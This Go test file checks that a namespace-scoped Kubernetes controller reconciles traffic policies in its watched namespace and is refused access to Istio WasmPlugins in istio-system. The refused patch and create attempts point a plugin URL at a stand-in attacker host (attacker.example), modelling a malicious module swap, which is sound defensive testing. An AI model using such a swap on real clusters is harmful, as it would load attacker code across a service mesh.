package controller

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strconv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	extensions "istio.io/client-go/pkg/apis/extensions/v1alpha1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// scopedBindings are the RBAC objects of a controller started with
// --watch-namespaces=watched, as a chart renders them for watchNamespaces: a
// RoleBinding to the generated ClusterRole in each watched namespace (no
// ClusterRoleBinding) and the Lease Role's RoleBinding in the controller's namespace.
func scopedBindings(sa string, watched ...string) []client.Object {
	subject := []rbacv1.Subject{{Kind: "ServiceAccount", Name: sa, Namespace: deployNamespace}}
	out := []client.Object{
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa, Namespace: deployNamespace}},
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: sa, Namespace: deployNamespace}, Subjects: subject,
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: serviceAccount}},
	}
	for _, ns := range watched {
		out = append(out, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: sa, Namespace: ns}, Subjects: subject,
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: serviceAccount}})
	}
	return out
}

// reconcileTotal reads controller_runtime_reconcile_total{controller, result} from
// the process's metrics (served by the package's controller).
func reconcileTotal(t *testing.T, run *running, controller, result string) float64 {
	t.Helper()
	resp, err := http.Get(run.metricsURL + "/metrics")
	require.NoError(t, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	m := regexp.MustCompile(`(?m)^controller_runtime_reconcile_total\{controller="` + controller + `",result="` + result + `"\} (\S+)$`).FindSubmatch(b)
	if m == nil {
		return 0
	}
	v, err := strconv.ParseFloat(string(m[1]), 64)
	require.NoError(t, err)
	return v
}

// TestWatchNamespaces: a controller started with --watch-namespaces and bound with
// RoleBindings in those namespaces only (scopedBindings, as the Helm chart does with
// watchNamespaces) syncs its caches and reconciles a policy there to Ready, and its
// identity can neither read nor write WasmPlugins anywhere else: istio-system's are
// out of reach (create, update, patch, delete, list), as is any cluster-wide list.
func TestWatchNamespaces(t *testing.T) {
	run := startController(t)
	ctx := context.Background()
	watched := namespace(t)
	sa := "scoped-" + watched
	for _, o := range scopedBindings(sa, watched) {
		require.NoError(t, k8s.Create(ctx, o), "%T %s", o, o.GetName())
	}
	if err := k8s.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "istio-system"}}); !apierrors.IsAlreadyExists(err) {
		require.NoError(t, err)
	}
	mesh := &extensions.WasmPlugin{ObjectMeta: metav1.ObjectMeta{Name: "mesh-wide-" + watched, Namespace: "istio-system"}}
	mesh.Spec.Url = "oci://registry.example.com/platform:1"
	require.NoError(t, k8s.Create(ctx, mesh))

	cfg := rest.CopyConfig(testConfig)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + deployNamespace + ":" + sa}
	c, err := client.New(cfg, client.Options{Scheme: Scheme()})
	require.NoError(t, err)

	forbidden := func(what string, err error) {
		t.Helper()
		assert.True(t, apierrors.IsForbidden(err), "%s: want Forbidden, got %v", what, err)
	}
	var w extensions.WasmPlugin
	forbidden("get in istio-system", c.Get(ctx, client.ObjectKeyFromObject(mesh), &w))
	forbidden("list in istio-system", c.List(ctx, &extensions.WasmPluginList{}, client.InNamespace("istio-system")))
	forbidden("list in every namespace", c.List(ctx, &extensions.WasmPluginList{}))
	patched := mesh.DeepCopy()
	patched.Spec.Url = "http://attacker.example/x.wasm"
	forbidden("patch in istio-system", c.Patch(ctx, patched, client.MergeFrom(mesh)))
	forbidden("update in istio-system", c.Update(ctx, patched))
	forbidden("delete in istio-system", c.Delete(ctx, mesh))
	other := &extensions.WasmPlugin{ObjectMeta: metav1.ObjectMeta{Name: "x", Namespace: "istio-system"}}
	other.Spec.Url = "http://attacker.example/x.wasm"
	forbidden("create in istio-system", c.Create(ctx, other))
	require.NoError(t, k8s.Get(ctx, client.ObjectKeyFromObject(mesh), mesh))
	assert.Equal(t, "oci://registry.example.com/platform:1", mesh.Spec.Url)
	// In the watched namespace the same identity may do what the controller does.
	in := &extensions.WasmPlugin{ObjectMeta: metav1.ObjectMeta{Name: "x", Namespace: watched}}
	in.Spec.Url = "http://example.com/x.wasm"
	assert.NoError(t, c.Create(ctx, in, client.DryRunAll))
	assert.NoError(t, c.List(ctx, &extensions.WasmPluginList{}, client.InNamespace(watched)))

	mgr, err := NewManager(cfg, Config{
		Modules: run.modules, ModuleAddr: "0", ModuleBaseURL: run.moduleURL,
		WatchNamespaces: []string{watched}, name: "trafficpolicy-scoped",
	})
	require.NoError(t, err)
	mctx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- mgr.Start(mctx) }()
	t.Cleanup(func() { cancel(); <-done })
	require.True(t, mgr.GetCache().WaitForCacheSync(mctx), "caches sync with namespaced RBAC")

	require.NoError(t, k8s.Create(ctx, policy(t, watched, "scoped", selector+rateLimit)))
	condition(t, watched, "scoped", Ready, "True")
	eventually(t, func() error {
		if n := reconcileTotal(t, run, "trafficpolicy-scoped", "success"); n == 0 {
			return fmt.Errorf("the scoped controller has not reconciled")
		}
		return nil
	})
	select {
	case err := <-done:
		require.FailNow(t, "the scoped controller stopped", "%v", err)
	default:
	}
}
